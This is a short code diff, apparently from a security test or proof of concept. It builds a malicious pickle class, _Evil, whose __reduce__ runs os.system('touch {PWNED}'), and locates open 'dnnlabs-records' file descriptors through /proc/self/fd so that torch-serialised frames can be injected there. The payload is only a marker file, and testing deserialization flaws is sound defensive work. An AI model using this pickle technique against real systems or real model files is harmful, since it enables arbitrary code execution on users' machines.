@@ -237,8 +237,12 @@ import io, os, struct, torch
 class _Evil:
     def __reduce__(self):
         return (os.system, ("touch {PWNED}",))
-_fds = [int(fd) for fd in os.listdir("/proc/self/fd")
-        if "dnnlabs-records" in os.readlink(f"/proc/self/fd/{{fd}}")]
+def _names(fd):
+    try:
+        return os.readlink(f"/proc/self/fd/{{fd}}")
+    except OSError:
+        return ""
+_fds = [int(fd) for fd in os.listdir("/proc/self/fd") if "dnnlabs-records" in _names(fd)]
 def _frame(obj):
     buffer = io.BytesIO()
     torch.save(obj, buffer)
